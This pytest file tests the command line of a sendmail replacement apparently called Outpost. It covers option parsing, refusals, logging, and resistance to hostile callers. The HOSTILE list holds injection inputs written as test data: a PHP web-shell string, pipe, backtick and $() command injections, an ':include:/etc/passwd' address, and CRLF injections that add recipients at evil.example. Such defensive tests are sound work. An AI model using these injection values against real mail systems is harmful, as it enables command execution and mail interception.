"""The command line of sendmail: every option that other sendmails have, in
every form in which it comes, and what a hostile one does. Which test covers
which option stands in tests/COVERAGE.md."""
import os
import pwd
import re
import shutil
import signal
import subprocess
import urllib.parse

import pytest

from support import (ACCOUNT, BUILD, DATAERR, NOPERM, NOUSER, OK, SANITIZED,
                     UNAVAILABLE, UNDER, USAGE, Outpost)

SHORT, WHOLE = b"one\r\n", b"one\r\n.\r\ntwo\r\n"
TEXT = b"To: head@example.org\nSubject: s\n\none\n.\ntwo\n"
HEAD, WORD = "head@example.org", "word@example.org"


@pytest.fixture(scope="module")
def office(shared_office):
    return shared_office


@pytest.fixture(scope="module")
def one(tmp_path_factory, office):
    outpost = Outpost(tmp_path_factory.mktemp("outpost"), office,
                      rate="1000/1s")
    send(outpost, WORD)         # its folders are there from now on
    return outpost


@pytest.fixture
def outpost(one):
    log = one.folder / "mail.log"
    log.write_text("")
    yield one
    for folder in ("active", "failed"):
        for entry in one.waiting(folder):
            entry.path.unlink()
            entry.path.with_suffix(".body").unlink()


def log_of(outpost):
    return (outpost.folder / "mail.log").read_text()


def send(outpost, *arguments, input=TEXT):
    """Send one message in silence; it, as it arrived."""
    before = len(outpost.office.messages)
    result = outpost.sendmail(*arguments, input=input)
    assert (result.code, result.out, result.err) == (OK, "", ""), result
    [message] = outpost.office.messages[before:]
    return message


def words(value):
    """How a row is called: by its options."""
    if isinstance(value, list):
        return ascii(" ".join(map(os.fsdecode, value)))[1:30] or "nothing"
    return ""


# Letters that mean something, and how they are written.

@pytest.mark.parametrize("options, to, body", [
    ([WORD], {WORD}, SHORT),
    (["-bm", WORD], {WORD}, SHORT),
    (["-t"], {HEAD}, SHORT),
    (["-t", WORD, "head@EXAMPLE.org"], {HEAD, WORD}, SHORT),
    (["-t", "--", WORD], {HEAD, WORD}, SHORT),
    (["-ti"], {HEAD}, WHOLE),
    (["-it"], {HEAD}, WHOLE),
    (["-t", "-i"], {HEAD}, WHOLE),
    (["-oi", WORD], {WORD}, WHOLE),
    (["-o", "i", WORD], {WORD}, WHOLE),
    (["-oitrue", WORD], {WORD}, WHOLE),
    (["-oiTrue", "-t"], {HEAD}, WHOLE),
    (["-oifalse", WORD], {WORD}, SHORT),
    (["-i", "-oi0", WORD], {WORD}, SHORT),
    (["-OIgnoreDots", WORD], {WORD}, WHOLE),
    (["-O", "IgnoreDots=true", WORD], {WORD}, WHOLE),
    (["-OIGNOREDOTS=yes", WORD], {WORD}, WHOLE),
    (["-O", "IgnoreDots=False", WORD], {WORD}, SHORT),
    (["-OIgnoreDotsX=true", WORD], {WORD}, SHORT),
    (["-tfa@example.net"], {HEAD}, SHORT),
    (["-itfa@example.net", "-oem"], {HEAD}, WHOLE),
    (["-f", "", "-i", WORD], {WORD}, WHOLE),
    (["-f", "<>", WORD], {WORD}, SHORT),
    (["-fa@example.net", WORD], {WORD}, SHORT),
    (["-ra@example.net", WORD], {WORD}, SHORT),
    (["-FName", "-F", "Name", WORD], {WORD}, SHORT),
    (["-odi", WORD], {WORD}, SHORT),
    (["-odb", WORD], {WORD}, SHORT),
    (["-O", "DeliveryMode=background", WORD], {WORD}, SHORT),
    (["-ODeliveryMode=interactive", WORD], {WORD}, SHORT),
    (["-B7BIT", WORD], {WORD}, SHORT),
    (["-B", "8bitmime", WORD], {WORD}, SHORT),
    (["-U", WORD], {WORD}, SHORT),
    (["-G", WORD], {WORD}, SHORT),
    (["-h", "30", WORD], {WORD}, SHORT),
    (["-h0", WORD], {WORD}, SHORT),
    (["-d", WORD], {WORD}, SHORT),
    (["-d0.1", WORD], {WORD}, SHORT),
    (["-d0.1", "-t"], {HEAD}, SHORT),
    (["-d99.100", "-t"], {HEAD}, SHORT),
], ids=words)
def test_options_act_however_they_are_written(outpost, options, to, body):
    message = send(outpost, *options)
    assert sorted(a.lower() for a in message.addresses) == sorted(to)
    assert message.body == body
    assert message.mail_from == ACCOUNT


@pytest.mark.parametrize("options", [
    ["-Ac"], ["-A", "m"], ["-c"], ["-D/x/debug"], ["-D", "/x/debug"], ["-E"],
    ["-J/x/log"], ["-J", "/x/log"], ["-Mrhost"], ["-M", "rhost"], ["-m"],
    ["-n"], ["-pESMTP:host"], ["-p", "ESMTP"], ["-s"], ["-T3d"], ["-T", "3d"],
    ["-XV"], ["-X", "/x/log"], ["-x"],
    ["-om"], ["-o7"], ["-o8pass8"], ["-oA/x/aliases"], ["-oQ/x/queue"],
    ["-oS/x/status"], ["-oH/x/help"], ["-oJ/x/forward"], ["-oP", "-oL9"],
    ["-oMrx"], ["-oU/x/db"], ["-o", "K5m"], ["-oo"], ["-oD/x"], ["-oX1"],
    ["-O", "QueueDirectory=/x/queue"], ["-OStatusFile=/x/status"],
    ["-OAliasFile=/x/aliases"], ["-ODaemonPortOptions=Port=25"],
    ["-OPrivacyOptions=goaway"], ["-OMinQueueAge=1h"], ["-OQueueFactor"],
    ["-Ono such option"], ["-O", "=x"], ["-OMeToo=false"],
    ["-OSevenBitInput"], ["-OEightBitMode=mime"],
], ids=words)
def test_an_option_without_meaning_here_changes_nothing(outpost, options):
    message = send(outpost, *options, "-i", WORD)
    assert message.addresses == [WORD]
    assert message.body == WHOLE
    assert "BODY" not in message.mail_parameters


UNDISCLOSED = "undisclosed-recipients:;"


@pytest.mark.parametrize("options, header, to", [
    ([], b"", [UNDISCLOSED]),
    (["-O", "NoRecipientAction=add-to-undisclosed"], b"", [UNDISCLOSED]),
    (["-ONoRecipientAction=none"], b"", []),
    (["-ONoRecipientAction=add-bcc"], b"", []),
    (["-ONoRecipientAction=Add-To"], b"", [f"<{WORD}>, <b@example.net>"]),
    (["-ONoRecipientAction=add-apparently-to"], b"",
     [f"<{WORD}>, <b@example.net>"]),
    (["-ONoRecipientAction=add-to"], b"Bcc: c@example.net\n", [UNDISCLOSED]),
    (["-ONoRecipientAction=add-to", "-t"], b"Bcc: c@example.net\n",
     [UNDISCLOSED]),
    (["-ONoRecipientAction=add-to"], b"To: d@example.net\n",
     ["d@example.net"]),
], ids=words)
def test_a_header_that_names_nobody_says_what_is_wished(outpost, options,
                                                        header, to):
    message = send(outpost, *options, WORD, "b@example.net",
                   input=header + b"Subject: s\n\nBody\n")
    assert [" ".join(v.split()) for v in message.header("To")] == to
    assert message.violations == []


# What notifications are wished (RFC 3461).

def wishes(message):
    return ({key: message.mail_parameters.get(key)
             for key in ("RET", "ENVID")}, [p for _, p in message.recipients])


@pytest.mark.parametrize("options, ret, envid, notify", [
    ([], None, None, None),
    (["-N", "failure,delay", "-Rhdrs", "-Vid"], "HDRS", "id",
     "FAILURE,DELAY"),
    (["-NSuccess , FAILURE,delay", "-R", "Full"], "FULL", None,
     "SUCCESS,FAILURE,DELAY"),
    (["-Nnever", "-Rfull", "-Rhdrs"], "HDRS", None, "NEVER"),
    (["-V", "a+b=c ~<d>"], None, "a+2Bb+3Dc+20~<d>", None),
    (["-V" + "x" * 100], None, "x" * 100, None),
], ids=words)
def test_wishes_for_notifications_go_to_the_server(outpost, office, options,
                                                   ret, envid, notify):
    """At once, by way of the queue, and not to one that knows none."""
    expected = {"RET": ret, "ENVID": envid}
    each = {"NOTIFY": notify} if notify else {}
    message = send(outpost, *options, WORD, "b@example.net")
    assert wishes(message) == (expected, [each, each])
    assert outpost.sendmail("-odq", *options, WORD, input=TEXT).code == OK
    office.fault("at EHLO2 no-extension DSN")
    assert outpost.sendmail("-qf").code == OK
    assert wishes(office.messages[-1]) == \
        ({"RET": None, "ENVID": None}, [{}])
    assert outpost.sendmail("-odq", *options, WORD, input=TEXT).code == OK
    assert outpost.sendmail("-qf").code == OK
    assert wishes(office.messages[-1]) == (expected, [each])


def test_the_server_is_told_for_whom_a_local_recipient_was(outpost):
    message = send(outpost, "-Nfailure", "a+b=c@localhost", WORD)
    [(local, parameters), (word, plain)] = message.recipients
    assert parameters == {"NOTIFY": "FAILURE",
                          "ORCPT": "rfc822;a+2Bb+3Dc@localhost"}
    assert plain == {"NOTIFY": "FAILURE"}


@pytest.mark.parametrize("options", [
    ["-odq"], ["-odd"], ["-o", "dq"], ["-ODeliveryMode=queue"],
    ["-O", "deliverymode=deferred"]], ids=words)
def test_delivery_may_be_left_to_the_queue(outpost, office, options):
    before = len(office.messages)
    result = outpost.sendmail(*options, WORD, input=TEXT)
    assert (result.code, result.out, result.err) == (OK, "", ""), result
    assert [e.pending for e in outpost.waiting()] == [[WORD]]
    assert len(office.messages) == before


@pytest.mark.parametrize("options", [["-v"], ["-ov"], ["-O", "Verbose=1"],
                                     ["-vi"], ["-v", "-v", "-d"]],
                         ids=words)
def test_verbose_shows_the_dialogue_and_sends_nothing_extra(outpost, office,
                                                            options):
    before = len(office.messages)
    result = outpost.sendmail(*options, WORD, input=TEXT)
    assert (result.code, result.out) == (OK, ""), result
    assert "C: MAIL FROM:" in result.err and "S: 250" in result.err
    assert len(office.messages) == before + 1
    assert outpost.waiting() == []


def test_the_last_of_several_senders_counts(outpost, office):
    office.mailbox(ACCOUNT).send_as[:] = ["last@contoso.com"]
    outpost.set(send_as="last@contoso.com")
    try:
        for options in (["-f", "first@contoso.com", "-flast@contoso.com"],
                        ["-f", "", "-r", "last@contoso.com"],
                        ["-rfirst@x.example", "-tf", "last@contoso.com"]):
            message = send(outpost, *options, WORD)
            assert message.mail_from == "last@contoso.com", options
            assert "last@contoso.com" in message.header("From")[0]
    finally:
        office.mailbox(ACCOUNT).send_as.clear()
        outpost.set(send_as=None)


NOBODY = "550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found"


@pytest.mark.parametrize("options, mailed", [
    ([], False), (["-oep"], False), (["-eq"], False), (["-e", "p"], False),
    (["-oem", "-OErrorMode=quiet"], False), (["-oem", "-Nnever"], False),
    (["-oem"], True), (["-em"], True), (["-oew"], True), (["-e", "e"], True),
    (["-o", "em"], True), (["-OErrorMode=mail-back"], True),
], ids=words)
def test_a_refusal_is_told_and_by_mail_where_that_is_asked(outpost, office,
                                                           options, mailed):
    outpost.set_main(admin="it@contoso.com")
    office.fault(f"at RCPT reply {NOBODY}")
    result = outpost.sendmail(*options, WORD, input=TEXT)
    assert (result.code, result.out) == (NOUSER, ""), result
    assert "RecipientNotFound" in result.err
    assert [e.pending for e in outpost.waiting()] == \
        [[ACCOUNT, "it@contoso.com"]] * mailed
    for notice in outpost.waiting():
        assert b"RecipientNotFound" in notice.body
        assert f"Final-Recipient: rfc822; {WORD}".encode() in notice.body


def test_a_refusal_is_mailed_back_to_the_caller_by_its_alias(outpost, office):
    caller = pwd.getpwuid(os.getuid()).pw_name
    aliases = outpost.folder / "aliases"
    outpost.set_main(admin="it@contoso.com")
    aliases.write_text(f"{caller}: ada@fabrikam.com\n")
    office.fault(f"at RCPT reply {NOBODY} times 2")
    try:
        for options in (["-oem"], []):
            result = outpost.sendmail(*options, WORD, input=TEXT)
            assert result.code == NOUSER, result
    finally:
        aliases.unlink()
    [notice] = outpost.waiting()
    assert notice.pending == [ACCOUNT, "it@contoso.com", "ada@fabrikam.com"]
    assert b"ada@fabrikam.com" in notice.header


def test_a_refusal_is_mailed_back_where_nothing_failed_is_kept(outpost,
                                                               office):
    outpost.set_main(keep_failed="0")
    office.fault("at DATA reply 554 5.7.1 Message content rejected")
    try:
        result = outpost.sendmail("-oem", WORD, input=TEXT)
        assert result.code not in (OK, USAGE), result
        assert len(outpost.waiting()) == 1 and outpost.failed() == []
    finally:
        outpost.set_main(keep_failed=None)


def test_relayed_mail_gets_no_fields_but_received(outpost):
    message = send(outpost, "-G", WORD,
                   input=f"From: x <{ACCOUNT}>\nSubject: s\n\nB\n")
    assert re.findall(r"(?m)^([\w-]+):", message.text) == \
        ["Received", "From", "Subject"]


def test_mail_that_goes_round_is_stopped(outpost, office):
    before = len(office.sessions)
    text = "Received: by x; now\n" * 3 + "Subject: s\n\nB\n"
    result = outpost.sendmail("-h", "2", WORD, input=text)
    assert (result.code, result.out) == (UNAVAILABLE, ""), result
    assert "Received" in result.err and len(office.sessions) == before
    for options in (["-h3"], ["-h", "0"], []):
        send(outpost, *options, WORD, input=text)


def test_the_content_decides_what_the_server_must_know(outpost, office):
    office.fault("at EHLO2 no-extension SMTPUTF8")
    office.fault("at EHLO2 no-extension 8BITMIME")
    assert send(outpost, "-U", "-B8BITMIME", WORD).body == SHORT
    sent = send(outpost, "-B7BIT", "käse@example.org",
                input="Subject: s\n\nKäse\n".encode()).mail_parameters
    assert sent["BODY"] == "8BITMIME" and "SMTPUTF8" in sent


def test_recipients_may_begin_with_a_dash(outpost):
    for arguments in (["--", "-oi@example.org"], [WORD, "-oi@example.org"]):
        message = send(outpost, *arguments)
        assert message.addresses[-1] == "-oi@example.org"
        assert message.body == SHORT


def test_what_a_caller_leaves_of_its_process_does_not_matter(outpost, office):
    """Signals that mutt blocks and shells ignore, a umask that lets nobody
    read, an environment of somebody else."""
    def leave():
        os.umask(0o777)
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        signal.signal(signal.SIGPIPE, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, {
            signal.SIGCHLD, signal.SIGTERM, signal.SIGALRM, signal.SIGPIPE})

    before = len(office.messages)
    for options in ([], ["-odq"]):
        result = outpost.sendmail(
            *options, WORD, input=TEXT, preexec_fn=leave, env={
                "USER": "games", "LOGNAME": "games", "HOME": "/nonexistent",
                "TMPDIR": "/nonexistent", "LC_ALL": "xx_XX", "IFS": "/"})
        assert (result.code, result.out, result.err) == (OK, "", ""), result
    [message] = office.messages[before:]
    assert "games" not in message.header("From")[0]
    [entry] = outpost.waiting()
    assert entry.body == SHORT
    assert entry.path.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("options, tag", [
    (["-Lnightly"], "nightly"),
    (["-L", "mail/backup"], "mail/backup"),
    (["-L", "100%n%s"], "100ns"),
    (["-L", "a\nb\x1b[1;31m c\u00e9[1]:"], "ab131mc1"),
    (["-L", b"\xff\xfe\x80t"], "t"),
    (["-L", "x" * 50], "x" * 32),
    (["-L", "%\u00e9 \n"], "outpost/submit"),
    (["-L", ""], "outpost/submit"),
], ids=words)
def test_a_tag_is_the_programs_name_in_the_log(outpost, options, tag):
    arguments = [os.fsdecode(o) for o in options]
    send(outpost, *arguments, "-iX/x/log", WORD)
    named = [re.fullmatch(r"\S+ (\S+)\[\d+\]: .*", line)[1]
             for line in log_of(outpost).splitlines()]
    own = "outpost/sendmail" if tag == "outpost/submit" else tag
    assert named == [own, tag]


def test_a_run_of_the_queue_has_its_tag_too(outpost):
    assert outpost.sendmail("-odq", WORD, input=TEXT).code == OK
    assert outpost.sendmail("-qf", "-Lnight").code == OK
    assert re.search(r" night\[\d+\]: \w+: .*status=sent", log_of(outpost))


def test_what_follows_a_lone_dot_is_told_to_the_log(outpost):
    send(outpost, WORD)
    assert "4 octets after a lone dot were dropped (use -i)" in \
        log_of(outpost)


def test_files_that_options_name_are_told_to_the_log(outpost):
    send(outpost, "-X/x/a.log", "-i", WORD)
    assert re.search(r"uid \d+ asked for the file '/x/a.log' to be opened, "
                     "which is never done", log_of(outpost))


# What is none of ours, or wrong: one sentence, and nothing is sent.

REFUSED = [
    (["-bd"], USAGE, "-bd: there is no daemon"),
    (["-bD", "-q5m"], USAGE, "there is no daemon"),
    (["-q5m", "-bl"], USAGE, "there is no daemon"),
    (["-bt"], USAGE, "-bt: there are no rules to test"),
    (["-bC"], USAGE, "-bC"),
    (["-bz"], USAGE, "-bz"),
    (["-ba", WORD], USAGE, "-ba"),
    (["-be"], USAGE, "'e'"),
    (["-bsx"], USAGE, "'sx'"),
    (["-b", ""], USAGE, "''"),
    (["-qG"], USAGE, "'G'"),
    (["-qQ"], USAGE, "'Q'"),
    (["-qL"], USAGE, "'L'"),
    (["-qp1m"], USAGE, "'p1m'"),
    (["-qXx"], USAGE, "-q does not know 'Xx'"),
    (["-q!"], USAGE, "'!'"),
    (["-q0"], USAGE, "'0'"),
    (["-q5y"], USAGE, "'5y'"),
    (["-Q"], USAGE, "-Q"),
    (["-Qreason", WORD], USAGE, "-Q"),
    (["-q", WORD], USAGE, "no recipients"),
    (["-qf", "-t"], USAGE, "no recipients"),
    (["-bp", WORD], USAGE, "no recipients"),
    (["-bP", "-t"], USAGE, "no recipients"),
    (["-bh", WORD], USAGE, "no recipients"),
    (["-bH", "-t"], USAGE, "no recipients"),
    (["-bs", WORD], USAGE, "by SMTP"),
    (["-C", "/dev/null", "-t"], NOPERM, "-C is refused"),
    (["-C/dev/null", "-bp"], NOPERM, "-C is refused"),
    (["-iC", "/dev/null", WORD], NOPERM, "-C is refused"),
    (["-ex", WORD], USAGE, "'x'"),
    (["-oex", WORD], USAGE, "'x'"),
    (["-oe", WORD], USAGE, "''"),
    (["-OErrorMode=never", WORD], USAGE, "'never'"),
    (["-odx", WORD], USAGE, "'x'"),
    (["-ODeliveryMode=never", WORD], USAGE, "'never'"),
    (["-ONoRecipientAction=add-x", WORD], USAGE, "'add-x'"),
    (["-B9BIT", WORD], USAGE, "9BIT"),
    (["-B", "", WORD], USAGE, "''"),
    (["-hmany", WORD], USAGE, "'many'"),
    (["-h-1", WORD], USAGE, "'-1'"),
    (["-h", "99999999999999999999", WORD], USAGE, "99999999999999999999"),
    (["-N", "sometimes", WORD], USAGE, "sometimes"),
    (["-Nnever,delay", WORD], USAGE, "never,delay"),
    (["-N", "", WORD], USAGE, "-N"),
    (["-Rbody", WORD], USAGE, "body"),
    (["-V", "", WORD], USAGE, "-V is empty"),
    (["-Va\nb", WORD], USAGE, "-V is not printable ASCII"),
    (["-V", "x" * 101, WORD], USAGE, "-V is too long"),
    *[([f"-{letter}"], USAGE, f"-{letter} needs an argument")
      for letter in "ABbCDeFfhJLMNOopRrTVX"],
    (["-Z", WORD], USAGE, "-Z"),
    (["-tZ"], USAGE, "-Z"),
    (["--help"], USAGE, "there are no long options"),
    (["--version"], USAGE, "there are no long options"),
    ([], USAGE, "no recipients"),
    (["--"], USAGE, "no recipients"),
    ([""], DATAERR, "''"),
    (["-"], USAGE, "'-' is behind the options"),
    ([WORD, "-t"], USAGE, "'-t' is behind the options"),
    ([WORD, "-f", "a@b.example"], USAGE, "'-f' is behind the options"),
    (["--", "-t"], USAGE, "'-t' is behind the options"),
    (["--", "--", WORD], USAGE, "'--' is behind the options"),
]


@pytest.mark.parametrize("options, code, told", REFUSED, ids=words)
def test_what_is_refused_is_told_in_one_sentence(outpost, office, options,
                                                 code, told):
    before = len(office.sessions)
    result = outpost.sendmail(*options, input=TEXT)
    assert (result.code, result.out) == (code, ""), result
    first, *rest = result.err.splitlines()
    assert first.startswith("sendmail: ") and told in first
    assert all(line.startswith("  hint: ") for line in rest) and len(rest) < 2
    assert len(office.sessions) == before
    assert outpost.waiting() == [] and outpost.failed() == []


@pytest.mark.parametrize("options", [["-bh"], ["-bH"], ["-b", "h", "-v"]],
                         ids=words)
def test_host_status_is_nothing_and_no_error(outpost, options):
    result = outpost.sendmail(*options)
    assert (result.code, result.out, result.err) == (OK, "", "")


@pytest.mark.parametrize("options", [["-d0.1"], ["-d0.4", "-v"],
                                     ["-bt", "-d0.1"], ["-d0.13", "-bt"]],
                         ids=words)
def test_debugging_level_zero_prints_the_version(outpost, options):
    result = outpost.sendmail(*options)
    assert (result.code, result.err) == (OK, "")
    assert re.fullmatch(r"Outpost \d\S+\n", result.out)


# Names by which sendmail is called.

def called(outpost, name, *arguments, input=b""):
    path = outpost.folder / name
    if not path.is_symlink():
        path.symlink_to(BUILD / "sendmail")
    done = subprocess.run([*UNDER, path, *arguments], input=input,
                          capture_output=True, timeout=60,
                          env=outpost.environment())
    return done.returncode, done.stdout.decode(), done.stderr.decode()


@pytest.mark.parametrize("name, arguments, code, out, err", [
    ("mailq", [], OK, "Mail queue is empty\n", ""),
    ("hoststat", [], OK, "", ""),
    ("purgestat", [], OK, "", ""),
    ("smtpd", [], USAGE, "", "sendmail: -bd: there is no daemon\n"),
    ("hoststat", [WORD], USAGE, "", "sendmail: no message is sent by"),
])
def test_names_of_other_sendmails_are_modes(outpost, name, arguments, code,
                                            out, err):
    result = called(outpost, name, *arguments)
    assert (result[0], result[1]) == (code, out)
    assert result[2].startswith(err) and (err or not result[2])


def test_any_other_name_sends(outpost, office):
    before = len(office.messages)
    assert called(outpost, "ssmtp", WORD, input=TEXT) == (OK, "", "")
    assert len(office.messages) == before + 1


# What a hostile caller writes: no file appears, no program runs, nobody else
# gets the message, and it goes the way that it always goes.

RUBBISH = bytes(range(1, 256))
LONG = b"x" * 131000            # the kernel takes no longer argument

HOSTILE = [
    (["-X", "{}/log", "-f", "<?php system($_GET[1]); ?>", WORD], DATAERR),
    (["-X{}/log", "-OQueueDirectory={}", "-oQ{}", "-D{}/debug", WORD], OK),
    (["-OStatusFile={}/s", "-oS{}/s", "-oA{}/a", "-oH{}/h", "-oJ{}/f", WORD],
     OK),
    (["-J{}/log", "-OSafeFileEnvironment=/", "-OErrorHeader={}/h", WORD], OK),
    (["-OPostmasterCopy=spy@evil.example", "-oPspy@evil.example",
      "-OFallbackMXhost=evil.example", "-oVevil.example", WORD], OK),
    (["-OTLSSrvOptions=V", "-OCACertFile={}/ca", "-OCipherList=NULL",
      "-ODaemonPortOptions=Port=1", WORD], OK),
    (["-OProgramMailer=/bin/sh", "-M{touch {}/x}", "-d0-99.127", WORD], OK),
    (["-C{}/evil.conf", WORD], NOPERM),
    (["-C", "{}/evil.conf", "-bs"], NOPERM),
    (["-be", "${run{/usr/bin/touch {}/x}}"], USAGE),
    (["-bem", "-t"], USAGE),
    (["--passwordeval=touch {}/x", WORD], USAGE),
    (["--host=evil.example", "--tls=off", WORD], USAGE),
    (["--logfile={}/log", WORD], USAGE),
    (["-f", "|touch {}/x", WORD], DATAERR),
    (["|touch {}/x"], DATAERR),
    ([":include:/etc/passwd"], DATAERR),
    (["-f", "`touch {}/x`@x.example", WORD], DATAERR),
    (["-F", "`touch {}/x`$(touch {}/y)", WORD], OK),
    (["-F", "%n%s%x%1000000d", "-L%n%s", "-V", "%n%s", WORD], OK),
    (["-f", "%n%s%x@x.example", WORD], OK),
    (["-f", "a@x.example\r\nRCPT TO:<spy@evil.example>", WORD], DATAERR),
    (["-f", "a@x.example\nBcc: spy@evil.example", WORD], DATAERR),
    (["-f", "a@x.example> SIZE=1 RET=FULL", WORD], DATAERR),
    (["-f", "a b@x.example", WORD], DATAERR),
    (["-f", '"a b"@x.example', WORD], OK),
    (["-f", '"a\\"b@y.example"@x.example', WORD], OK),
    (["-f", "a@x.example,b@y.example", WORD], DATAERR),
    (["-F", "x\r\nBcc: spy@evil.example\r\n\r\nmore", WORD], OK),
    (["-F", "x\rBcc: spy@evil.example", WORD], OK),
    (["-F", '<spy@evil.example>, "', WORD], OK),
    (["-F", "\\", WORD], OK),
    (["-V", "x SIZE=1\r\nRSET", WORD], USAGE),
    (["-N", "never\r\nRSET", WORD], USAGE),
    (["a@b.example\r\nRCPT TO:<spy@evil.example>"], DATAERR),
    (["a@b.example\n"], DATAERR),
    (["a@b.example> NOTIFY=NEVER"], DATAERR),
    (["--", "-t"], USAGE),
    (["--", "-oQ{}", WORD], USAGE),
    (["-G", "-f", "spy@evil.example", WORD], OK),
    *[([option, LONG, WORD], OK) for option in ("-L", "-X", "-D", "-O", "-o",
                                                "-M", "-p")],
    *[([option, LONG, WORD], USAGE) for option in ("-V", "-N", "-R", "-h",
                                                   "-b", "-B", "-e")],
    (["-F", LONG, WORD], DATAERR),
    ([LONG + b"@x.example"], DATAERR),
    ([b"-q" + LONG], USAGE),
    (["-" + "i" * 131000, WORD], OK),
    *[([option, RUBBISH, WORD], OK) for option in ("-F", "-L", "-X", "-D",
                                                   "-O", "-o", "-M", "-p")],
    *[([option, RUBBISH, WORD], USAGE) for option in ("-V", "-N", "-R", "-h",
                                                      "-b", "-B", "-e")],
    (["-f", RUBBISH, WORD], DATAERR),
    ([RUBBISH], DATAERR),
    ([b"-" + RUBBISH], USAGE),
    ([b"-q" + RUBBISH], USAGE),
    ([b"\xff\xfe@x.example"], DATAERR),
    (["-F", b"\xff\xc3\xed\xa0\x80\xf4\xbf", WORD], OK),
    (["-f", b"\xff\xfe@x.example", WORD], OK),
    ([WORD] * 10000, OK),
    (["-oi"] * 10000 + [WORD], OK),
    (["-F", "x" * 1000] * 1000 + [WORD], OK),
    (["-qIx"] * 33, USAGE),
]


@pytest.fixture
def bait(outpost):
    """A folder where anybody may make files, and a configuration that leads
    elsewhere."""
    folder = outpost.folder / "bait"
    folder.mkdir(exist_ok=True)
    folder.chmod(0o777)
    (folder / "evil.conf").write_text(outpost.config.read_text().replace(
        f"host = {outpost.office.host}", "host = evil.example"))
    return folder


def tree(folder):
    return sorted(str(p) for p in folder.rglob("*"))


def fill(arguments, bait):
    return [os.fsdecode(a) if isinstance(a, bytes)
            else a.replace("{}", str(bait)) for a in arguments]


@pytest.mark.parametrize("arguments, code", HOSTILE, ids=words)
def test_a_hostile_command_line_does_no_harm(outpost, office, bait, arguments,
                                             code):
    before, there = len(office.messages), tree(outpost.folder)
    result = outpost.sendmail(*fill(arguments, bait), input=TEXT, cwd=bait)
    assert (result.code, result.out) == (code, ""), result
    assert tree(outpost.folder) == there or code == DATAERR and \
        outpost.failed()
    assert re.fullmatch(r"sendmail: [^\n]+\n(  hint: [^\n]+\n)?" if code
                        else "", result.err)
    assert result.err.replace("\n", "").isprintable()
    messages = office.messages[before:]
    assert len(messages) == (code == OK)
    for message in messages:
        assert message.addresses == [WORD]
        assert (message.mail_from, message.user) == (ACCOUNT, ACCOUNT)
        assert message.tls_version == "TLSv1.3"
        assert message.violations == []
        assert message.header("Bcc") == []
        assert message.body in (SHORT, WHOLE)
        [sender] = message.header("From")
        assert re.search(rf"(^|<){ACCOUNT}>?$", sender)
        assert message.raw.split(b"\r\n\r\n")[0].isascii()


def test_words_that_name_files_and_programs_are_local_users(outpost, bait):
    """Whose mail goes to admin, or here to the account."""
    there = tree(outpost.folder)
    for word in ("{}/mbox", "|{}/x", '"|touch {}/x"', '":include:/etc/passwd"',
                 "~root", "$HOME", "`id`"):
        message = send(outpost, "--", *fill([word], bait))
        assert message.addresses[0] in (ACCOUNT, "it@contoso.com"), word
    assert tree(outpost.folder) == there


@pytest.mark.skipif(SANITIZED or UNDER or not shutil.which("strace"),
                    reason="needs strace, and programs as they are installed")
def test_no_option_opens_a_file_or_runs_a_program(outpost, office, bait):
    """All that take a path or a command, in one run, as the kernel sees it:
    sendmail runs submit and submit runs token, and no more."""
    trace = outpost.folder / "trace"
    arguments = [
        "-X{}/log", "-X", "{}/log", "-D{}/debug", "-OQueueDirectory={}",
        "-oQ{}", "-oS{}/s", "-OStatusFile={}/s", "-oA{}/a",
        "-OAliasFile={}/a", "-oH{}/h", "-oJ{}/f", "-J{}/log", "-M{}/m",
        "-p{}/p", "-L{}/l", "-F`touch {}/x`", "-f", "$(touch)@x.example",
        "-N", "never", "-V", "|touch", "-d99", "-i", "--", WORD]
    done = subprocess.run(
        ["strace", "-f", "-s", "4096", "-o", trace,
         "-e", "trace=execve,open,openat,creat,connect,mknodat,linkat,rename",
         BUILD / "sendmail", *fill(arguments, bait)], input=TEXT, cwd=bait,
        env=outpost.environment(), capture_output=True, timeout=60)
    assert done.returncode == OK, done
    calls = trace.read_text()
    started = re.findall(r'execve\("([^"]*)"', calls)
    assert {os.path.basename(p) for p in started} <= \
        {"sendmail", "submit", "token"} and len(started) <= 3
    opened = re.findall(r'(?:open|openat|creat)\([^"]*"([^"]*)"', calls)
    assert str(outpost.config) in opened                # it was watched
    assert [p for p in opened if str(bait) in p] == []
    peers = set(re.findall(r"htons\((\d+)\)", calls))
    assert peers <= {str(office.smtp_port),
                     str(urllib.parse.urlsplit(office.authority).port)}
    assert tree(bait) == [str(bait / "evil.conf")]
